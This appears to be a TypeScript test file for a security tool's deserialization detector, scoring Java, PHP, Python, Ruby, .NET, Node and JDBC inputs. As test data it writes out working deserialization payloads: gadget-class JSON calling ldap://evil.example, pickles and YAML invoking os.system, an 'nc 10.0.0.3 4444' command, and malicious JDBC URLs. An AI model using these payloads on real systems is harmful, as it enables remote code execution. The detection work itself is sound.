import { describe, expect, test } from "bun:test";
import { deserializationAnalyzer } from "../../../src/detect/analyzers/deserialization.ts";
import { evidence, junk, strength, strongest } from "./helpers.ts";

const s = (text: string, name = "data") => strength(deserializationAnalyzer, text, { name });

describe("deserialization analyzer", () => {
  test("Java streams in base64, hex and raw bytes; gadget names; XMLDecoder", () => {
    expect(s("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")).toBe(0.95);
    expect(s("ACED00057372")).toBe(0.9);
    expect(s("\u00ac\u00ed\u0000\u0005sr")).toBe(0.95);
    expect(s("org.apache.commons.collections.functors.InvokerTransformer")).toBe(0.9);
    expect(s('<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder">')).toBe(0.95);
    expect(strongest(deserializationAnalyzer, "rO0ABXNyABFq")!.class).toBe("deserialization");
    // The stream magic alone, and one or two bytes into a base64 stream.
    expect(s("rO0ABQ")).toBe(0.95);
    expect(s("AKztAAVzcgAR")).toBe(0.9);
    expect(s("eHCs7QAFc3IA")).toBe(0.9);
    expect(s("rO0AB")).toBe(0);
  });

  test("XStream: elements named by Java classes, whether the document is read whole or element by element", () => {
    expect(s("<java.util.PriorityQueue serialization='custom'><unserializable-parents/>")).toBe(0.9);
    expect(s("<map><entry><jdk.nashorn.internal.objects.NativeString>")).toBe(0.7);
    // An XML body's element name, as the decompose stage hands it over: a key leaf.
    const element = (name: string) => strength(deserializationAnalyzer, name, { location: "body", kind: "key", path: `body.xml.map.${name}`, name });
    for (const name of ["java.util.PriorityQueue", "jdk.nashorn.internal.objects.NativeString", "dynamic-proxy"]) expect(element(name)).toBe(0.9);
    for (const name of ["java.version", "item", "com.example.Order"]) expect(element(name)).toBe(0);
    // XStream names no attribute by a class.
    expect(strength(deserializationAnalyzer, "java.util.HashMap", { location: "body", kind: "key", path: "body.xml.map@java.util.HashMap", name: "java.util.HashMap" })).toBe(0);
    // A generic type in an error message, and the same name as a JSON key or a query value.
    expect(s("cannot deserialize instance of `java.util.ArrayList<java.lang.Integer>` out of VALUE_STRING")).toBe(0);
    expect(strength(deserializationAnalyzer, "java.util.PriorityQueue", { location: "body", kind: "key", path: "body.json.java.util.PriorityQueue", name: "java.util.PriorityQueue" })).toBe(0);
  });

  test("a stream that starts a segment of a URL path: `/` separates segments there", () => {
    const path = (text: string) => strength(deserializationAnalyzer, text, { kind: "path", location: "path", path: "path", name: "" });
    expect(path("/files/rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA/view")).toBe(0.95);
    expect(evidence(deserializationAnalyzer, "/files/rO0ABXNyABFq/view", { kind: "path", location: "path", path: "path", name: "" })).toBe("rO0ABX");
    // Inside a value `/` is base64's own: a run that does not start there is no stream.
    expect(s("abc/rO0ABXNyABFq")).toBe(0);
    expect(path("/static/js/app.rO0AB.js")).toBe(0);
  });

  test("classes a polymorphic JSON binder can be made to build, which load code or a JNDI name", () => {
    expect(s("org.springframework.context.support.ClassPathXmlApplicationContext")).toBe(0.9);
    expect(s("com.zaxxer.hikari.HikariConfig")).toBe(0.9);
    expect(s("ch.qos.logback.core.db.JNDIConnectionSource")).toBe(0.9);
    expect(s('{"@type":"Lcom.zaxxer.hikari.HikariConfig;","metricRegistry":"ldap://evil.example/a"}')).toBe(0.9);
    // fastjson's JVM descriptor spelling of the classic gadget.
    expect(s('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"ldap://evil.example/a"}')).toBe(0.9);
    // Named in code or a config file, where no binder reads it: weak.
    expect(s("import org.springframework.context.support.ClassPathXmlApplicationContext;")).toBe(0.6);
    expect(s('<bean id="ds" class="org.apache.tomcat.dbcp.dbcp2.BasicDataSource">')).toBe(0.6);
    for (const v of ["org.springframework.context.ApplicationContext", "com.zaxxer.hikari.pool", "HikariConfig"]) expect(s(v)).toBe(0);
  });

  test("Commons Collections gadget names, however cased", () => {
    expect(s("x.invokertransformer")).toBe(0.85);
    expect(s("ChainedTransformer")).toBe(0.85);
    expect(s("WhileClosure")).toBe(0.85);
    for (const v of ["the factory closure", "a transformer model", "myinstantiatefactoryx"]) expect(s(v)).toBe(0);
  });

  test("gadget class names inside base64, at each of the three byte offsets of a base64 group", () => {
    const b64 = (prefix: string, name: string) => Buffer.from(prefix + name + "\u0000xyz", "latin1").toString("base64");
    for (const name of ["java.lang.Runtime", "ProcessBuilder", "processbuilder", "InvokerTransformer", "invokertransformer"]) {
      for (const prefix of ["", "a", "ab", "\u0000\u0005t"]) expect(s(b64(prefix, name))).toBe(0.85);
    }
    expect(evidence(deserializationAnalyzer, b64("ab", "ProcessBuilder"))).not.toBe("");
    // The names' base64 found by another offset's spelling, a name the list does not hold, and random base64: nothing.
    for (const v of [b64("", "Runtime environment"), b64("x", "process builder"), Buffer.from(crypto.getRandomValues(new Uint8Array(3000))).toString("base64")]) {
      expect(s(v)).toBe(0);
    }
  });

  test("Node.js serialized functions (node-serialize, funcster)", () => {
    expect(s('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}')).toBe(0.9);
    expect(s("__js_function")).toBe(0.9);
    expect(s("my_js_function_name")).toBe(0);
  });

  test("PHP objects need the length of their class name", () => {
    expect(s('O:8:"stdClass":1:{s:1:"a";i:1;}')).toBe(0.9);
    expect(s('a:2:{i:0;s:1:"a";i:1;O:+4:"Evil":0:{}}')).toBe(0.9);
    expect(s('C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}')).toBe(0.9);
    // An array of scalars is data, and a length that does not match is not PHP's.
    expect(s('a:2:{i:0;s:1:"a";i:1;s:1:"b";}')).toBe(0);
    expect(s('O:3:"stdClass":1:{}')).toBe(0);
  });

  test("YAML language tags, .NET type names, Python pickles", () => {
    expect(s('!!python/object/apply:os.system ["id"]')).toBe(0.9);
    expect(s('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]')).toBe(0.9);
    expect(s("--- !ruby/object:Gem::Installer\ni: x")).toBe(0.9);
    expect(s('{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}')).toBe(0.9);
    expect(strength(deserializationAnalyzer, "Foo.Bar.Baz, FooAssembly", { name: "$type" })).toBe(0.9);
    expect(s("gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU")).toBe(0.85);
    // A header's characters inside a random token (a cookie's ciphertext) start no pickle: what follows them is checked.
    expect(s("CfDJ8Nq3xLm2b-N0_gAJj7dYcQe4Lw9kT2vR5sU1aH6pZ0yX3cB8nM")).toBe(0);
    for (const v of ["x.gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU", "v1_gAJjcG9zaXgKc3lzdGVtCnEALg==", "sess-gAJ9cQBYAQAAAGFxAUsBcy4="]) expect([v, s(v)]).toEqual([v, 0.85]);
    expect(evidence(deserializationAnalyzer, "cos\nsystem\n(S'id'\ntR.")).toBe("cos\nsystem\n");
    // Protocols 2-5 open with PROTO; protocol 4 without a frame goes straight to GLOBAL: `\x80\x04cos\nsystem\n`.
    const pickle4 = Buffer.from("\x80\x04cos\nsystem\n(S'id'\ntR.", "latin1");
    expect(s(pickle4.toString("base64"))).toBe(0.85);
    expect(s(pickle4.toString("latin1"))).toBe(0.95);
    // Protocols 4 and 5 as pickle.dumps writes them: a frame, then STACK_GLOBAL over two short strings.
    const framed = Buffer.from("\x80\x04\x95+\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x10nc 10.0.0.3 4444\x94\x85\x94R\x94.", "latin1");
    expect(s(framed.toString("latin1"))).toBe(0.95);
    expect(s(Buffer.from("\x80\x05\x8c\x08builtins\x8c\x04eval\x93", "latin1").toString("latin1"))).toBe(0.95);
    // A pickle of data only names no callable module.
    expect(s(Buffer.from("\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x08datetime\x94\x8c\x04date\x94\x93", "latin1").toString("latin1"))).toBe(0);
  });

  test(".NET BinaryFormatter streams and XAML that starts a process; Ruby Marshal objects and gadgets; jsonpickle calls", () => {
    const binary = Buffer.from([0, 1, 0, 0, 0, 255, 255, 255, 255, 1, 0, 0, 0, 0, 0, 0, 0, 12, 2]);
    expect(s(binary.toString("base64"))).toBe(0.9);
    expect(s(binary.toString("hex"))).toBe(0.9);
    // Its bytes, as the decompose stage reads a stream found in base64 or compressed (inside an ObjectStateFormatter's here).
    expect(s(Buffer.concat([Buffer.from([0xff, 1, 0x32, binary.length]), binary]).toString("latin1"))).toBe(0.9);
    expect(s('<ObjectDataProvider x:Key="a" ObjectType="{x:Type sd:Process}" MethodName="Start">')).toBe(0.9);
    expect(s("clr-namespace:System.Diagnostics;assembly=System")).toBe(0.9);
    const marshal = Buffer.from("\x04\bo:\x15Gem::Requirement\x06:\x10@requirements", "latin1");
    expect(s(marshal.toString("base64"))).toBe(0.9);
    expect(s(marshal.toString("latin1"))).toBe(0.9);
    expect(s("--- !ruby/hash:Net::WriteAdapter")).toBeGreaterThanOrEqual(0.85);
    // The gadget chains dump an array of such objects.
    const chain = Buffer.from("\x04\b[\x07o:\x14Gem::SpecFetcher\x00o:\x13Gem::Installer\x00U:\x15Gem::Requirement[\x06o:\x12Net::WriteAdapter", "latin1");
    expect(s(chain.toString("base64"))).toBe(0.9);
    // A forged Rails session: a hash holding a gadget; after padding too.
    const session = Buffer.from(`\x04\b{\x06I"\x0fsession_id\x06:\x06ET${"x".repeat(6000)}o:\x12Net::WriteAdapter`, "latin1");
    expect(s(session.toString("base64"))).toBe(0.9);
    expect(s('{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["id"]}]}')).toBe(0.95);
    expect(s('{"py/reduce":[{"py/type":"myapp.Thing"}]}')).toBe(0.8);
    // A JSON body's leaves: the callable's name under jsonpickle's key.
    expect(strength(deserializationAnalyzer, "subprocess.Popen", { name: "py/object" })).toBe(0.95);
  });

  test("JDBC URLs whose driver properties run a script, deserialize or load a class; plain ones are nothing", () => {
    for (const v of [
      "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://198.51.100.7/x.sql'", "jdbc:h2:mem:;IN\\IT=RUNSCRIPT FROM 'http://198.51.100.7/x.sql'",
      "jdbc:mysql://198.51.100.7:3306/db?autoDeserialize=true&queryInterceptors=x.Y", "jdbc:mysql://198.51.100.7/db?autoDeserialize=yes",
      "jdbc:mysql://address=(host=198.51.100.7)(autoDeserialize=true)(queryInterceptors=x.Y)/db",
      "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x/b.xml",
    ]) {
      expect([v, s(v)]).toEqual([v, 0.9]);
    }
    // Any case, a wrapper's or +srv's name first, H2's settings with blanks, the (host=...,...) form, a long URL.
    for (const v of ["JDBC:h2:mem:;INIT=RUNSCRIPT FROM 'http://x/y.sql'", "jdbc:p6spy:mysql://x/db?autoDeserialize=true", "jdbc:mysql+srv://x/db?autoDeserialize=true", "jdbc:h2:mem:test; INIT=RUNSCRIPT FROM 'http://x/y.sql'", "jdbc:mysql://(host=x,autoDeserialize=true)/db", `jdbc:mysql://x/db?${"a=1&".repeat(1000)}autoDeserialize=true`]) {
      expect([v.slice(0, 60), s(v)]).toEqual([v.slice(0, 60), 0.9]);
    }
    for (const v of ["jdbc:mysql://db.internal:3306/shop?useSSL=true", "jdbc:postgresql://localhost:5432/app", "jdbc:h2:mem:testdb"]) expect([v, s(v)]).toEqual([v, 0]);
    // Read once each, to the next blank: half a megabyte of `jdbc:` prefixes is a linear read.
    for (const v of ["jdbc:h2:".repeat(62_500), "jdbc:mysql://".repeat(40_000), `${"jdbc:postgresql:x".repeat(30_000)}?`]) expect(s(v)).toBe(0);
  });

  test("fastjson's probes: a class that resolves a name or opens a URL as it is built, under @type", () => {
    for (const v of ['{"@type":"java.net.Inet4Address","val":"x.dnslog.example"}', '{"a":{"@type": "java.net.URL","val":"http://probe.example"}}', "{'@type':'java.net.InetSocketAddress'{'address':,'val':'x.example'}}"]) {
      expect([v, strongest(deserializationAnalyzer, v)?.rule]).toEqual([v, "deserialization.binder-probe"]);
    }
    for (const v of ['{"@type":"Person","name":"java.net.URL"}', "java.net.URL is a class"]) expect([v, strongest(deserializationAnalyzer, v)?.rule]).toEqual([v, undefined]);
  });

  test("ordinary values are not serialized objects", () => {
    // A Rails session cookie (a Marshal hash), jsonpickle of the application's own class, ViewState-like
    // base64, C++ and Ruby names in prose.
    const rails = Buffer.from("\x04\b{\x07I\"\x0fsession_id\x06:\x06ETo:\x1dActionDispatch::Flash::FlashHash", "latin1").toString("base64");
    for (const v of [rails, '{"py/object":"myapp.models.Prefs","theme":"dark"}', "Gem::Requirement and std::vector", "/wEPDwUKMTIzNDU2Nzg5MGRk"]) expect(s(v)).toBe(0);
    expect(strength(deserializationAnalyzer, "myapp.models.Prefs", { name: "py/object" })).toBe(0);
    for (const v of ["hello world", "O:1 in the score", "type=text", "!!important", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x", '{"type":"click","x":1}']) {
      expect(s(v)).toBe(0);
    }
  });

  test("a 1 MB value is judged whole, and binary junk gives no throw", () => {
    expect(s("A".repeat(1_000_000) + " rO0ABXNyABFq")).toBe(0.95);
    expect(s('O:1:"'.repeat(200_000))).toBe(0);
    expect(() => deserializationAnalyzer.analyze({ text: junk(200_000), location: "body", path: "body", name: "", kind: "text" })).not.toThrow();
  });
});

describe("deserialization analyzer: round s23's fixes", () => {
  test("XMLDecoder's document without its class attribute, and the gadgets exploits name", () => {
    expect(s("<java><class><string>oracle.toplink.internal.sessions.UnitOfWorkChangeSet</string><void><array class=\"byte\" length=\"2\"/></void></class></java>")).toBe(0.9);
    expect(s('<work:WorkContext><java version="1.8"><object class="com.example.Widget"><void property="x"/></object></java></work:WorkContext>')).toBe(0.85);
    // ColdFusion's WDDX drops a type's first and last letters: its exploits wrap the class in two.
    expect(s("<struct type='xcom.sun.rowset.JdbcRowSetImplx'><var name='dataSourceName'><string>ldap://198.51.100.7:1389/a</string></var></struct>")).toBe(0.9);
    expect(s('com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://198.51.100.7:1389/a" useFirstPass="true";')).toBe(0.85);
    expect(s('<ScorecardClient:ExcelDataSet CompressedDataTable="H4sIAAAA" DataTable-CaseSensitive="true" runat="server"/>')).toBe(0.9);
    expect(s('<java><void method="getRuntime"/></java>')).toBe(0.85);
    // A build file's Java version, a tag list, a mention of the module, the data set's name alone.
    for (const v of ["<project><java><version>17</version></java></project>", '{"tags":"<java><class><inner-classes>"}', "Tags: <java> <class> <object>", "the JndiLoginModule docs", "ExcelDataSet export"]) expect([v, s(v)]).toEqual([v, 0]);
  });
});
